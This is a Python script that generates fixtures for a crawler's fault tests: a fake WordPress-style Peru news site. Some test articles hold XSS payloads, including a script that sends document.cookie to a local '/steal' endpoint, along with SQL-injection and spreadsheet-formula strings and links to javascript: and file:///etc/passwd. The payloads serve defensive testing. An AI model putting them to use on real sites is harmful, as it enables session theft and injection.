"""Writes the fault-test site: a small WordPress-like Peru section, in the replay format.

Run it after changing the data below (``.venv/bin/python tests/fixtures_faults/make_site.py``)
and commit the files it writes; the tests read the files, never this script.

The site (host ``faults.example``, served by ``tests/faultsite.py`` as 127.0.0.1:PORT):
- ``/tag/peru/`` and ``/tag/peru/page/2/``: a section of two pages listing every article
  below, plus links a crawler must not follow (other host, other schemes, robots.txt);
- ``/tag/empty/``: a section page that lists no article;
- articles ``HEALTHY`` (never faulted; some hostile in content) and ``TARGETS`` (plain,
  healthy articles that tests break with a fault plan);
- ``elsewhere.example``: a second host (served as localhost:PORT) with one article that the
  crawl must never fetch.

The markup is a stock WordPress theme's (the classes WordPress itself prints: hentry,
entry-title, entry-summary, entry-content, posted-on, byline, page-numbers), which the page
objects' generic WordPress rules read: served from 127.0.0.1 the site matches no known source.
"""

from __future__ import annotations

import json
import shutil
import sys
from dataclasses import dataclass, field
from html import escape
from pathlib import Path

ROOT = Path(__file__).resolve().parent
REPO = ROOT.parents[1]
sys.path.insert(0, str(REPO))

from peruwire_crawl import replay  # noqa: E402

HOST = "faults.example"
OTHER_HOST = "elsewhere.example"
ORIGIN = f"https://{HOST}"
DROP_TABLE = "'; DROP TABLE articles; --"
FORMULA = '=HYPERLINK("http://127.0.0.1/","Peru")'


@dataclass
class Article:
    path: str
    title: str  # as it should be stored (plain text)
    summary: str
    paragraphs: list[str]
    author: str = "Redacción Sur"
    lang: str = "en"
    encoding: str = "utf-8"  # the bytes on the wire
    content_type: str = "text/html; charset=UTF-8"  # the header sent
    meta_charset: str | None = "UTF-8"  # <meta charset>, None for none
    title_html: str | None = None  # raw markup of the headline, when not escape(title)
    summary_html: str | None = None
    extra_body_html: str = ""
    notes: dict = field(default_factory=dict)

    @property
    def date(self) -> str:
        year, month, day = [part for part in self.path.split("/") if part.isdigit()][:3]
        return f"{year}-{month}-{day}"


def _lorem(topic: str) -> list[str]:
    return [
        f"{topic} was reported on Tuesday by several regional organisations in southern Peru.",
        "Representatives said the talks with the government would continue next week, while "
        "the assemblies decided to keep their measures in place until then.",
        "Local media reported that the police had been deployed to the main roads of the region.",
    ]


HEALTHY = [
    Article(
        "/2023/06/01/miners-strike-in-arequipa/",
        "Miners strike in Arequipa over unpaid wages",
        "Workers at two copper mines stopped work on Monday.",
        _lorem("The strike at the copper mines"),
        author="Ana Quispe",
    ),
    Article(
        "/2023/06/02/paro-nacional-en-puno/",
        "Paro nacional en Puno: comunidades aymaras exigen la renuncia de Boluarte",
        "Las comunidades del altiplano mantienen el bloqueo de carreteras por tercer día.",
        [
            "Las organizaciones campesinas de Puno anunciaron que el paro continuará hasta que el "
            "Gobierno atienda sus demandas.",
            "Según los dirigentes, más de cincuenta comunidades participan en la protesta, "
            "señaló la federación departamental.",
        ],
        author="Rosa Mamani",
        lang="es",
    ),
    Article(
        "/2023/06/03/senora-perez-pide-justicia/",
        "Señora Pérez pide justicia por su hijo en Ayacucho",
        "La madre de una de las víctimas habló con la prensa después de la audiencia.",
        [
            "La señora Pérez esperó seis meses la audiencia en la que el juez escuchó a los "
            "testigos de la represión de diciembre.",
            "«Mi hijo tenía diecinueve años», dijo ante los periodistas en la plaza de Huamanga.",
        ],
        author="Julián Ñaupari",
        lang="es",
        encoding="latin-1",  # Latin-1 bytes …
        content_type="text/html; charset=utf-8",  # … declared as UTF-8 (header and meta)
        notes={"fault": "latin-1 body declared as utf-8"},
    ),
    Article(
        "/2023/06/04/rondas-de-cajamarca-viajan-a-lima/",
        "Rondas campesinas de Cajamarca viajan a Lima",
        "Cientos de ronderos llegaron a la capital en buses alquilados por sus comunidades.",
        [
            "Los ronderos de Cajamarca se sumaron a la marcha nacional en la capital peruana.",
            "La dirigente Ñusta Huamán explicó que las rondas exigen la liberación de los detenidos.",
        ],
        author="Rosa Mamani",
        lang="es",
        content_type="text/html",
        meta_charset=None,
        notes={"fault": "utf-8 body, no charset anywhere"},
    ),
    Article(
        "/2023/06/05/huelga-de-maestros-en-cusco/",
        "Huelga de maestros en Cusco: rechazan la reforma educativa",
        "El sindicato regional convocó a una huelga indefinida desde el próximo lunes.",
        [
            "Los maestros del Cusco anunciaron una huelga indefinida contra la reforma de la "
            "educación pública aprobada este año.",
            "El secretario general del sindicato dijo que la medida afectará a más de mil escuelas.",
        ],
        author="Julián Ñaupari",
        lang="es",
        encoding="latin-1",
        content_type="text/html",
        meta_charset=None,
        notes={"fault": "latin-1 body, no charset anywhere"},
    ),
    Article(
        "/2023/06/06/lima-mayor-resigns/",
        "Lima mayor resigns",
        "Protest at city hall after the resignation.",
        _lorem("The resignation of the mayor"),
        title_html='Lima mayor <script>alert("pwned")</script>resigns',
        summary_html='<img src="x" onerror="alert(1)">Protest at city hall after the resignation.',
        extra_body_html=(
            '<script>document.location="http://127.0.0.1:9/steal?c="+document.cookie</script>'
            '<iframe src="javascript:alert(2)"></iframe>'
            '<p onclick="alert(3)">Council members will elect a replacement <b>next week</b>.</p>'
            "<style>p { display: none }</style>"
        ),
        notes={"fault": "markup and scripts in title, summary and body"},
    ),
    Article(
        "/2023/06/07/students-paint-slogan-on-ministry-wall/",
        f"Students paint {DROP_TABLE} on ministry wall",
        f"The slogan {DROP_TABLE} appeared overnight on the Ministry of Education.",
        _lorem("The painted slogan"),
        notes={"fault": "SQL-like text in title and summary"},
    ),
    Article(
        "/2023/06/08/formula-in-the-headline/",
        f"{FORMULA} and the fight over water in Moquegua",
        "=1+1 is not a summary but a formula, as a spreadsheet would read it.",
        _lorem("The dispute over water"),
        notes={"fault": "formula-like title and summary (CSV injection)"},
    ),
]

TARGET_TOPICS = [
    ("protests-in-juliaca", "Thousands march in Juliaca on anniversary of killings"),
    ("congress-rejects-early-elections", "Congress rejects early elections for the third time"),
    ("teachers-march-in-lima", "Teachers march in Lima for higher salaries"),
    ("fishermen-demand-compensation", "Fishermen demand compensation for oil spill"),
    ("mining-conflict-in-apurimac", "Mining conflict in Apurímac escalates"),
    ("health-workers-strike", "Health workers begin national strike"),
    ("indigenous-leaders-meet-in-iquitos", "Indigenous leaders meet in Iquitos"),
    ("farmers-block-highway", "Farmers block the Panamericana highway"),
    ("students-occupy-university", "Students occupy San Marcos university"),
    ("transport-strike-in-arequipa", "Transport strike paralyses Arequipa"),
    ("water-protest-in-ica", "Water protest in Ica ends with agreement"),
    ("journalists-denounce-harassment", "Journalists denounce police harassment"),
    ("miners-march-to-lima", "Informal miners march to Lima"),
    ("coca-growers-protest", "Coca growers protest eradication plan"),
    ("unions-call-general-strike", "Unions call a general strike for July"),
    ("court-orders-release", "Court orders release of detained leaders"),
]
TARGETS = [
    Article(
        f"/2023/05/{day:02d}/{slug}/",
        title,
        f"{title}, according to local organisations.",
        _lorem(title),
        author="Ana Quispe",
    )
    for day, (slug, title) in enumerate(TARGET_TOPICS, start=10)
]

ARTICLES = HEALTHY + TARGETS
PAGE_ONE = HEALTHY + TARGETS[:6]
PAGE_TWO = TARGETS[6:]

# Links on page two that the crawl must never follow, as (href, title).
FORBIDDEN_LINKS = [
    (f"https://{OTHER_HOST}/2023/06/09/an-article-on-another-host/", "An article on another host"),
    ("javascript:alert(document.cookie)", "A javascript: link"),
    ("mailto:editor@faults.example", "A mailto: link"),
    ("ftp://127.0.0.1/2023/06/09/ftp-article/", "An ftp: link"),
    ("data:text/html,<h1>data</h1>", "A data: link"),
    ("file:///etc/passwd", "A file: link"),
    (f"{ORIGIN}/private/2023/06/09/disallowed-by-robots/", "A page robots.txt disallows"),
]


# --- markup --------------------------------------------------------------------------------


def page(title: str, body: str, head: str = "", lang: str = "en", meta_charset: str | None = "UTF-8") -> str:
    charset = f'<meta charset="{meta_charset}">\n' if meta_charset else ""
    return (
        f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n{charset}'
        '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
        f"<title>{title} - Sur Noticias</title>\n{head}"
        '<meta property="og:site_name" content="Sur Noticias">\n'
        '<meta name="generator" content="WordPress 6.2.2">\n</head>\n'
        f'<body class="wp-theme-twentytwenty">\n<header id="site-header"><a class="site-title" href="{ORIGIN}/">Sur Noticias</a>\n'
        f'<nav class="primary-menu-wrapper"><ul class="primary-menu"><li class="menu-item"><a href="{ORIGIN}/tag/peru/">Peru</a></li>'
        f'<li class="menu-item"><a href="{ORIGIN}/about-us/">About us</a></li></ul></nav></header>\n'
        f'<main id="site-content" role="main">\n{body}\n</main>\n'
        '<footer id="site-footer"><p class="footer-copyright">Sur Noticias, a test site.</p></footer>\n'
        "</body>\n</html>\n"
    )


def card(href: str, title_html: str, summary_html: str) -> str:
    return (
        '  <article class="post type-post status-publish format-standard hentry">\n'
        f'    <header class="entry-header"><h2 class="entry-title"><a href="{escape(href)}" rel="bookmark">{title_html}</a></h2></header>\n'
        f'    <div class="entry-summary"><p>{summary_html}</p></div>\n'
        "  </article>\n"
    )


def listing(path: str, name: str, articles: list[Article], next_path: str | None,
            prev_path: str | None, extra_cards: str = "") -> str:
    head = f'<link rel="canonical" href="{ORIGIN}{path}">\n'
    pagination = ""
    if prev_path:
        head += f'<link rel="prev" href="{ORIGIN}{prev_path}">\n'
        pagination += f'<a class="prev page-numbers" href="{ORIGIN}{prev_path}">&laquo; Newer posts</a> '
    if next_path:
        head += f'<link rel="next" href="{ORIGIN}{next_path}">\n'
        pagination += f'<a class="next page-numbers" href="{ORIGIN}{next_path}">Older posts &raquo;</a>'
    cards = "".join(
        card(ORIGIN + a.path, a.title_html or escape(a.title), a.summary_html or escape(a.summary))
        for a in articles
    )
    body = (
        f'<header class="archive-header"><h1 class="archive-title">Tag: <span>{escape(name)}</span></h1></header>\n'
        f"{cards}{extra_cards}"
        + (f'<nav class="navigation pagination" aria-label="Posts"><div class="nav-links">{pagination}</div></nav>\n'
           if pagination else "")
    )
    return page(escape(name), body, head)


def article_page(a: Article, origin: str = ORIGIN) -> str:
    url = origin + a.path
    head = (
        f'<meta name="description" content="{escape(a.summary)}">\n'
        f'<link rel="canonical" href="{url}">\n'
        f'<meta property="og:type" content="article">\n'
        f'<meta property="og:title" content="{escape(a.title)} - Sur Noticias">\n'
        f'<meta property="og:url" content="{url}">\n'
        f'<meta property="article:published_time" content="{a.date}T09:30:00-05:00">\n'
        f'<meta name="author" content="{escape(a.author)}">\n'
    )
    paragraphs = "\n".join(f"    <p>{escape(p)}</p>" for p in a.paragraphs)
    body = (
        '<article class="post type-post status-publish format-standard hentry">\n'
        '  <header class="entry-header">\n'
        f'    <h1 class="entry-title">{a.title_html or escape(a.title)}</h1>\n'
        f'    <div class="entry-summary"><p>{a.summary_html or escape(a.summary)}</p></div>\n'
        f'    <div class="entry-meta"><span class="posted-on"><time class="entry-date published" '
        f'datetime="{a.date}T09:30:00-05:00">{a.date}</time></span> '
        f'<span class="byline">by <span class="author vcard"><a href="{origin}/author/x/" rel="author">'
        f"{escape(a.author)}</a></span></span></div>\n"
        "  </header>\n"
        f'  <div class="entry-content">\n{paragraphs}\n    {a.extra_body_html}\n  </div>\n'
        "</article>"
    )
    return page(escape(a.title), body, head, lang=a.lang, meta_charset=a.meta_charset)


# --- writing -------------------------------------------------------------------------------


def write(url: str, html: str, encoding: str = "utf-8", content_type: str = "text/html; charset=UTF-8") -> None:
    replay.save(ROOT, url, replay.StoredResponse(200, {"Content-Type": content_type}, html.encode(encoding)))


def main() -> None:
    for host in (HOST, OTHER_HOST):
        shutil.rmtree(ROOT / host, ignore_errors=True)
    forbidden = "".join(card(href, escape(title), "Must not be fetched.") for href, title in FORBIDDEN_LINKS)
    write(f"{ORIGIN}/tag/peru/", listing("/tag/peru/", "Peru", PAGE_ONE, "/tag/peru/page/2/", None))
    write(f"{ORIGIN}/tag/peru/page/2/",
          listing("/tag/peru/page/2/", "Peru", PAGE_TWO, None, "/tag/peru/", extra_cards=forbidden))
    write(f"{ORIGIN}/tag/empty/", listing("/tag/empty/", "Empty", [], None, None))
    for a in ARTICLES:
        write(ORIGIN + a.path, article_page(a), a.encoding, a.content_type)
    replay.save(ROOT, f"{ORIGIN}/robots.txt",
                replay.StoredResponse(200, {"Content-Type": "text/plain"}, b"User-agent: *\nDisallow: /private/\n"))
    private = Article("/private/2023/06/09/disallowed-by-robots/", "Disallowed by robots.txt",
                      "Must not be fetched.", ["Secret."])
    write(ORIGIN + private.path, article_page(private))
    elsewhere = Article("/2023/06/09/an-article-on-another-host/", "An article on another host",
                        "Must not be fetched.", ["Off the sections' host."])
    write(f"https://{OTHER_HOST}{elsewhere.path}", article_page(elsewhere, f"https://{OTHER_HOST}"))
    manifest = {
        "host": HOST,
        "other_host": OTHER_HOST,
        "section": "/tag/peru/",
        "empty_section": "/tag/empty/",
        "articles": [
            {"path": a.path, "title": a.title, "summary": a.summary, "body_start": a.paragraphs[0],
             "author": a.author, "language": a.lang, "date": a.date, "healthy": a in HEALTHY, **a.notes}
            for a in ARTICLES
        ],
        "forbidden_links": [href for href, _ in FORBIDDEN_LINKS],
    }
    (ROOT / "site.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n", "utf-8")
    print(f"wrote {len(ARTICLES)} articles under {ROOT}")


if __name__ == "__main__":
    main()
